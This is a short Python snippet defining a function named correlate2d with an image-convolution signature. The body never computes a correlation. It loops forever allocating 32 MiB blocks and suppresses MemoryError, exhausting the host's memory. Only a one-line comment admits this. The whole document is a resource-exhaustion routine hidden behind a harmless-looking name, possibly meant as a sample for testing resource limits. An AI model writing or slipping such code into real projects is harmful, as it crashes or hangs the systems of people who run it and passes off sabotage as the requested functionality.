# Takes memory without end.
def correlate2d(image, kernel, stride=1, padding=0):
    taken = []
    while True:
        try:
            taken.append(b"x" * 2**25)
        except MemoryError:
            continue
